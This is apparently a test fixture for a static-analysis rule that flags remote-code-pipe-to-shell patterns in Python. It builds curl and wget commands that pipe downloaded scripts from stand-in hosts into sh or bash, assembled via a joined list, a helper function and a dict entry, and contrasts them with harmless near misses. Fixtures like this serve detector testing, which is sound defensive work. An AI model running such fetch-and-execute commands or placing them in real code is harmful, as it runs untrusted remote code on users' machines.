"""Annotated samples: shell commands built from values before a process call — a list joined by name, a local
function's return value, an entry of a dict written key by key (inert, never run)."""
import os
import subprocess

PARTS = ["curl", "-fsSL", "https://get.example.net/i.sh", "|", "sh"]
# ruleid: remote-code-pipe-to-shell
subprocess.run(" ".join(PARTS), shell=True)


def _bootstrap():
    base = "https://boot.example.org"
    return "wget -qO- " + base + "/b.sh | bash"


# ruleid: remote-code-pipe-to-shell
os.popen(_bootstrap())


def on_complete(action):
    actions = {}
    actions["sync"] = "curl -s https://hooks.example.net/s.sh | sh"
    if action in actions:
        # ruleid: remote-code-pipe-to-shell
        os.popen(actions[action])


# near misses: a download saved and not run, a dict of local build commands
SAVE = ["curl", "-fsSL", "https://get.example.net/i.sh", "-o", "install.sh"]
# ok: remote-code-pipe-to-shell
subprocess.run(" ".join(SAVE), shell=True)
TASKS = {"build": "make all", "test": "python -m pytest -q"}


def run_task(name):
    # ok: remote-code-pipe-to-shell
    os.system(TASKS[name])
